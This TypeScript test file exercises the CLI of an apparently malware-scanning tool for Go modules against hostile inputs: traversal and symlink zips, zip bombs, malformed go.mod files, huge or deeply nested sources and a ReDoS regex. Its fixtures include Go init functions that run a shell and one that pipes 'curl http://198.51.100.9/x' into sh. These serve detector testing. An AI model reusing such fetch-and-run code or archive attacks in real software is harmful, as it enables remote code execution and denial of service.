// Hostile packaging and input through the CLI entry points (issue 6, item 3): every malformed input
// ends in a one-line error naming the input and the problem with exit code 2, or in a bounded scan
// whose result says what could not be read; nothing is left in the temp dir; in a batch only the bad
// target fails. The zip rules themselves are unit-tested in module-unzip.test.ts; this file checks
// what a user sees. Big inputs are generated here, never committed.
import assert from 'node:assert/strict';
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, test } from 'node:test';
import { buildModuleZip, buildZip, type RawZipEntry } from './fixtures/modules/zip-writer.js';
import { dockerTestsSkipped } from './helpers/docker-gate.js';
import type { AnalysisResult } from '../src/result/schema.js';

const repo = fileURLToPath(new URL('../../', import.meta.url));
const cli = path.join(repo, 'dist/src/cli/main.js');
const fixtures = path.join(repo, 'test/fixtures/hostile-input');
const work = mkdtempSync(path.join(tmpdir(), 'gosnare-hostile-input-'));
after(() => rmSync(work, { recursive: true, force: true }));
let counter = 0;

interface Run extends SpawnSyncReturns<string> {
  ms: number;
  /** What the run left in its private TMPDIR. */
  leftovers: string[];
}

/** Runs the CLI with a private TMPDIR so that anything it leaves behind is seen. */
function gosnare(args: string[], timeoutMs = 120_000): Run {
  const tmp = path.join(work, `tmp${counter++}`);
  mkdirSync(tmp);
  const started = Date.now();
  const res = spawnSync(process.execPath, [cli, ...args], { cwd: repo, encoding: 'utf8', timeout: timeoutMs, env: { ...process.env, TMPDIR: tmp } });
  return { ...res, ms: Date.now() - started, leftovers: readdirSync(tmp) };
}

function json(run: Run): AnalysisResult {
  return JSON.parse(run.stdout) as AnalysisResult;
}

/** The error contract: exit 2, exactly one stderr line that names the input and matches `problem`. */
function assertOneLineError(run: Run, input: string, problem: RegExp): void {
  assert.equal(run.status, 2, `exit code; stderr: ${run.stderr}`);
  const lines = run.stderr.trimEnd().split('\n');
  assert.equal(lines.length, 1, `one line expected, got:\n${run.stderr}`);
  assert.ok(lines[0]!.startsWith(`gosnare: ${input}: `), lines[0]);
  assert.match(lines[0]!, problem);
  assert.equal(run.stdout, '');
  assert.deepEqual(run.leftovers, [], 'temp files left behind');
}

function writeModuleDir(name: string, files: Record<string, string | Buffer>): string {
  const dir = path.join(work, name);
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), content);
  }
  return dir;
}

const P = 'example.test/hostile@v1.0.0/';
const GO_MOD: RawZipEntry = { name: `${P}go.mod`, data: 'module example.test/hostile\n' };
const EXEC_INIT = 'package hostile\n\nimport "os/exec"\n\nfunc init() { exec.Command("/bin/sh", "-c", "id").Run() }\n';

const hostileZips: Array<{ name: string; entries: () => RawZipEntry[]; problem: RegExp }> = [
  { name: 'traversal', entries: () => [GO_MOD, { name: `${P}../../evil.sh`, data: 'id' }], problem: /entry ".*\.\.\/\.\.\/evil\.sh": path traversal/ },
  { name: 'symlink', entries: () => [GO_MOD, { name: `${P}link`, data: '/etc/passwd', unixMode: 0o120777 }], problem: /symbolic link/ },
  { name: 'duplicate', entries: () => [GO_MOD, { name: `${P}a.go`, data: 'package a' }, { name: `${P}a.go`, data: 'package evil' }], problem: /multiple entries for file "a\.go"/ },
  {
    name: 'non-utf8',
    entries: () => [GO_MOD, { name: Buffer.concat([Buffer.from(P), Buffer.from([0xff, 0x9b, 0x2e, 0x67, 0x6f])]), data: 'x', utf8Flag: false }],
    // The bytes are shown escaped: a C1 control byte (0x9b, CSI) never reaches the terminal raw.
    problem: /\\\\xff\\\\x9b\.go": file name is not valid UTF-8/,
  },
  // 600 MiB of zeros declared honestly: refused from the central directory, before inflating anything.
  { name: 'bomb-declared', entries: () => [GO_MOD, { name: `${P}bomb.bin`, data: Buffer.alloc(600 << 20) }], problem: /file too large \(629145600 > 524288000 bytes\)/ },
  // 700 MiB declared as 10 bytes: caught on the bytes actually inflated.
  { name: 'bomb-lying', entries: () => [GO_MOD, { name: `${P}bomb.bin`, data: Buffer.alloc(700 << 20), declaredSize: 10 }], problem: /bomb\.bin": corrupt data \(too many bytes/ },
  { name: 'no-prefix', entries: () => [{ name: 'main.go', data: 'package main' }], problem: /not in module zip layout/ },
];

test('hostile zips: analyze --static-only gives one line naming the zip, the entry and the problem; exit 2; nothing left in TMPDIR', () => {
  for (const z of hostileZips) {
    const file = path.join(work, `${z.name}.zip`);
    writeFileSync(file, buildZip(z.entries()));
    const run = gosnare(['analyze', file, '--static-only']);
    assertOneLineError(run, file, z.problem);
    // The zip path is said once, at the start (it used to be repeated inside the reason).
    assert.equal(run.stderr.split(file).length - 1, 1, run.stderr);
    assert.ok(run.ms < 30_000, `${z.name} took ${run.ms} ms`);
  }
  const notZip = path.join(work, 'not-a.zip');
  writeFileSync(notZip, 'this is not a zip');
  assertOneLineError(gosnare(['analyze', notZip, '--static-only']), notZip, /not a valid zip file/);
});

test('a hostile zip with dynamic analysis requested fails the same way, before any container starts', { skip: dockerTestsSkipped() }, () => {
  const file = path.join(work, 'traversal-dyn.zip');
  writeFileSync(file, buildZip(hostileZips[0]!.entries()));
  assertOneLineError(gosnare(['analyze', file]), file, /path traversal/);
});

test('go.mod: empty, not a regular file, over 16 MiB: exit 2 naming the directory; another module path is reported as declared', () => {
  const empty = writeModuleDir('gomod-empty', { 'go.mod': '', 'a.go': 'package a\n' });
  assertOneLineError(gosnare(['analyze', empty, '--static-only']), empty, /go\.mod has no module directive/);

  const garbage = writeModuleDir('gomod-garbage', { 'go.mod': Buffer.from([0xff, 0xfe, 0x7b, 0x7b, 0x0a]), 'a.go': 'package a\n' });
  assertOneLineError(gosnare(['analyze', garbage, '--static-only']), garbage, /go\.mod has no module directive/);

  // 20 MiB: over Go's own go.mod limit (modfetch.MaxGoMod), so no Go tool would use this module.
  const huge = writeModuleDir('gomod-huge', { 'go.mod': `module example.test/huge\n${'// padding padding padding padding\n'.repeat(600_000)}`, 'a.go': 'package a\n' });
  assertOneLineError(gosnare(['analyze', huge, '--static-only']), huge, /go\.mod is \d+ bytes, over Go's limit of 16777216 bytes/);

  const notFile = writeModuleDir('gomod-dir', { 'go.mod/x': 'x', 'a.go': 'package a\n' });
  assertOneLineError(gosnare(['analyze', notFile, '--static-only']), notFile, /go\.mod is not a regular file/);

  // A directory has no published path to compare with: the go.mod's declaration is what is reported.
  const other = writeModuleDir('gomod-other', { 'go.mod': 'module github.com/google/uuid\n', 'a.go': 'package uuid\n' });
  const run = gosnare(['analyze', other, '--static-only', '--format', 'json']);
  assert.equal(run.status, 0, run.stderr);
  assert.equal(json(run).module.path, 'github.com/google/uuid');
  // A zip is published under its prefix: a go.mod naming another module is a finding.
  const zip = path.join(work, 'renamed.zip');
  writeFileSync(zip, buildModuleZip('example.test/renamed', 'v1.0.0', { 'go.mod': 'module github.com/google/uuid\n', 'a.go': 'package uuid\n' }));
  const zipRun = gosnare(['analyze', zip, '--static-only', '--format', 'json']);
  assert.ok(json(zipRun).moduleFindings.some((f) => f.ruleId === 'module-path-mismatch'), zipRun.stdout.slice(0, 400));
  assert.deepEqual(zipRun.leftovers, []);
});

test('Go files that do not parse: the errors are listed and findings still come from the rest of the file and the other files', () => {
  const dir = path.join(fixtures, 'broken-go');
  const run = gosnare(['analyze', dir, '--static-only', '--format', 'json']);
  assert.equal(run.status, 1, run.stderr);
  const result = json(run);
  const broken = result.static.parseErrors.filter((e) => e.file === 'broken.go');
  assert.ok(broken.length >= 1 && broken.every((e) => e.line >= 1), JSON.stringify(result.static.parseErrors));
  const hits = result.static.findings.map((f) => `${f.ruleId}@${f.file}:${f.line}`);
  // After the syntax errors in broken.go, its init still runs a shell; clean.go's init does too.
  assert.ok(hits.includes('import-time-exec-shell@broken.go:16'), hits.join(', '));
  assert.ok(hits.includes('import-time-exec-shell@clean.go:6'), hits.join(', '));
  assert.ok(result.static.iocs.ips.includes('198.51.100.23'), JSON.stringify(result.static.iocs));
});

/** A generated Go file: `count` dense lines (a call and strings on each) or byte-table lines, then an exec in init. */
function generatedGo(bytes: number, kind: 'dense' | 'table'): string {
  const parts = ['package big\n\nimport (\n\t"encoding/base64"\n\t"os/exec"\n)\n\n'];
  let size = parts[0]!.length;
  for (let i = 0; size < bytes; i++) {
    const line =
      kind === 'table'
        ? `var T${i} = []byte{${Array.from({ length: 48 }, (_, k) => (k * 7 + i) & 255).join(', ')}}\n`
        : `var s${i} = "chunk${i}" + "/bin/" + "sh"\nfunc f${i}() string { return base64.StdEncoding.EncodeToString([]byte(s${i})) }\n`;
    parts.push(line);
    size += line.length;
  }
  parts.push('\nfunc init() { exec.Command("/bin/sh", "-c", "curl http://198.51.100.9/x | sh").Run() }\n');
  return parts.join('');
}

test('a 50 MB generated Go file: not parsed, reported as unscannable-large-file (suspicious), finishes in seconds', () => {
  const dir = writeModuleDir('big50', { 'go.mod': 'module example.test/big\n', 'big.go': generatedGo(50 << 20, 'dense'), 'small.go': 'package big\n' });
  const run = gosnare(['analyze', dir, '--static-only', '--format', 'json'], 60_000);
  assert.equal(run.status, 1, run.stderr);
  const result = json(run);
  const finding = result.static.findings.find((f) => f.ruleId === 'unscannable-large-file');
  assert.ok(finding && finding.file === 'big.go' && finding.severity === 'medium', JSON.stringify(result.static.findings));
  assert.equal(result.verdict.level, 'suspicious');
  assert.ok(result.static.parseErrors.some((e) => e.file === 'big.go' && /not parsed: file is \d+ bytes \(limit 8388608\)/.test(e.message)));
  assert.ok(run.ms < 30_000, `took ${run.ms} ms`);
});

test('a 3 MB generated table file under the limit is scanned whole: the exec at its end is found in bounded time', () => {
  const dir = writeModuleDir('big3', { 'go.mod': 'module example.test/big\n', 'big.go': generatedGo(3 << 20, 'table') });
  const run = gosnare(['analyze', dir, '--static-only', '--format', 'json'], 120_000);
  assert.equal(run.status, 1, run.stderr);
  const result = json(run);
  assert.ok(result.static.findings.some((f) => f.ruleId === 'import-time-exec-shell'), JSON.stringify(result.static.findings.map((f) => f.ruleId)));
  assert.equal(result.verdict.level, 'malicious');
  // Measured ~10 s on a busy 2-core machine (it took minutes with one query pass per rule).
  assert.ok(run.ms < 90_000, `took ${run.ms} ms`);
});

test('deep nesting: 100 000 parens, nested blocks or a+a+… chains never crash the scanner', () => {
  const n = 100_000;
  const cases = {
    parens: `package deep\n\nvar X = ${'('.repeat(n)}"a"${')'.repeat(n)}\n`,
    blocks: `package deep\n\nimport "os/exec"\n\nfunc init() {\n${'if true {\n'.repeat(n)}exec.Command("sh", "-c", "id").Run()\n${'}\n'.repeat(n)}}\n`,
    // A binary_expression query on this chain crashed the process (SIGSEGV in tree-sitter) before the
    // query start depth was bounded.
    chain: `package deep\n\nimport "os/exec"\n\nvar a = "x"\nvar X = ${Array(n).fill('a').join('+')}\n\nfunc init() { exec.Command("sh", "-c", X).Run() }\nfunc q(b, k []byte) { b[0] ^= k[0%len(k)] }\n`,
  };
  for (const [name, source] of Object.entries(cases)) {
    const dir = writeModuleDir(`deep-${name}`, { 'go.mod': 'module example.test/deep\n', 'a.go': source });
    const run = gosnare(['analyze', dir, '--static-only', '--format', 'json'], 60_000);
    assert.equal(run.signal, null, `${name}: killed by ${run.signal}`);
    assert.equal(run.status, 1, `${name}: ${run.stderr}`);
    const ids = json(run).static.findings.map((f) => f.ruleId);
    if (name === 'chain') assert.ok(ids.includes('import-time-exec-shell'), `${name}: ${ids.join(', ')}`);
    // Bracket nesting this deep is reported, not scanned: queries do not see code 50 000 levels down.
    else assert.ok(ids.includes('unscannable-deep-nesting'), `${name}: ${ids.join(', ')}`);
    assert.ok(run.ms < 45_000, `${name} took ${run.ms} ms`);
  }
});

function ruleFile(name: string, body: string): string {
  const file = path.join(work, `${name}.yaml`);
  writeFileSync(file, body);
  return file;
}

/** A complete rule document except for what the case under test breaks. */
function ruleDoc(id: string, query: string, extra = ''): string {
  const indented = query.split('\n').map((l) => `  ${l}`).join('\n');
  return `id: ${id}\nseverity: high\ncategory: evasion\nmessage: m\ndescription: d\n${extra}query: |\n${indented}\ntests:\n  match: ["var x = len(y)"]\n  no-match: ["var x = 1"]\n`;
}
const CALL = '(call_expression function: (identifier) @f arguments: (argument_list) @args) @match';

test('bad rule files: bad YAML, unknown field, query that does not compile, predicate outside a pattern: exit 2 naming file:line', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['bad-yaml', 'id: x\nseverity: [high\n', /YAML/],
    ['unknown-field', ruleDoc('r-unknown', CALL, 'colour: red\n'), /unknown key 'colour'/],
    ['bad-query', ruleDoc('r-query', '(call_expression (no_such_node)) @match'), /query does not compile/],
    ['stray-predicate', ruleDoc('r-stray', '[(call_expression function: (identifier) @f) @match]\n(#eq? @f "len")'), /has no @match capture.*matches every node/],
  ];
  const dir = writeModuleDir('rules-target', { 'go.mod': 'module example.test/r\n', 'a.go': 'package r\n' });
  for (const [name, body, problem] of cases) {
    const file = ruleFile(name, body);
    for (const args of [['rules', 'check', file], ['analyze', dir, '--static-only', '--rules', file]]) {
      const run = gosnare(args);
      assert.equal(run.status, 2, `${name} ${args[0]}: ${run.stderr}${run.stdout}`);
      const out = `${run.stdout}${run.stderr}`;
      assert.ok(out.includes(`${file}:`), `${name}: names the file: ${out}`);
      assert.match(out, problem, name);
    }
  }
});

test('catastrophic regex: (a+)+$ against 60 000 a…! stays bounded; with the i flag it is refused at load', () => {
  // Under the 64 KiB recovery value limit, so the regex really sees it (it ran for hours before).
  const payload = `${'a'.repeat(60_000)}!`;
  const source = `package redos\n\nimport "os"\n\nfunc init() {\n\tos.Getenv("${payload}")\n\tos.Getenv("aaaa")\n}\n`;
  const dir = writeModuleDir('redos', { 'go.mod': 'module example.test/redos\n', 'a.go': source });
  const anyCall = '(call_expression arguments: (argument_list) @args) @match';
  const rule = (flags: string) => ruleDoc('r-redos', anyCall, `where:\n  args:\n    recovered: { regex: '(a+)+$'${flags} }\n`);
  const linear = gosnare(['analyze', dir, '--static-only', '--format', 'json', '--rules', ruleFile('redos', rule(''))], 60_000);
  assert.equal(linear.status, 1, linear.stderr);
  // The regex did run: the short argument matches (line 7), the hostile one does not (line 6).
  assert.deepEqual(json(linear).static.findings.map((f) => `${f.ruleId}:${f.line}`), ['r-redos:7']);
  assert.ok(linear.ms < 20_000, `took ${linear.ms} ms`);
  const refused = gosnare(['rules', 'check', ruleFile('redos-i', rule(', flags: i'))]);
  assert.equal(refused.status, 2);
  assert.match(`${refused.stdout}${refused.stderr}`, /nests quantifiers/);
});

test('a batch with hostile targets: each bad target fails alone, the good ones are analysed, nothing left in TMPDIR', () => {
  const good = path.join(fixtures, 'broken-go');
  const traversal = path.join(work, 'batch-traversal.zip');
  writeFileSync(traversal, buildZip(hostileZips[0]!.entries()));
  const bomb = path.join(work, 'batch-bomb.zip');
  writeFileSync(bomb, buildZip(hostileZips[5]!.entries()));
  const emptyMod = writeModuleDir('batch-empty-gomod', { 'go.mod': '', 'a.go': 'package a\n' });
  const execZip = path.join(work, 'batch-exec.zip');
  writeFileSync(execZip, buildModuleZip('example.test/hostile', 'v1.0.0', { 'go.mod': 'module example.test/hostile\n', 'a.go': EXEC_INIT }));
  const list = path.join(work, 'hostile-list.txt');
  writeFileSync(list, [good, traversal, bomb, emptyMod, path.join(work, 'missing-dir'), execZip].join('\n') + '\n');
  const out = path.join(work, 'hostile-batch');
  const run = gosnare(['batch', list, '--static-only', '--out', out, '--format', 'csv'], 120_000);
  assert.equal(run.status, 1, run.stderr);
  const rows = readdirSync(path.join(out, 'results')).map((f) => JSON.parse(readFileSync(path.join(out, 'results', f), 'utf8')) as { target: string; gosnareBatchFailure?: boolean; errorKind?: string; error?: string });
  assert.equal(rows.length, 6);
  const byTarget = new Map(rows.map((r) => [r.target, r]));
  for (const bad of [traversal, bomb, emptyMod, path.join(work, 'missing-dir')]) {
    const row = byTarget.get(bad);
    assert.ok(row?.gosnareBatchFailure && row.errorKind === 'bad-target', `${bad}: ${JSON.stringify(row)}`);
    assert.ok(row.error && !row.error.includes('\n'), row.error);
  }
  for (const ok of [good, execZip]) assert.ok(byTarget.get(ok) && !byTarget.get(ok)!.gosnareBatchFailure, ok);
  assert.deepEqual(run.leftovers, []);
});
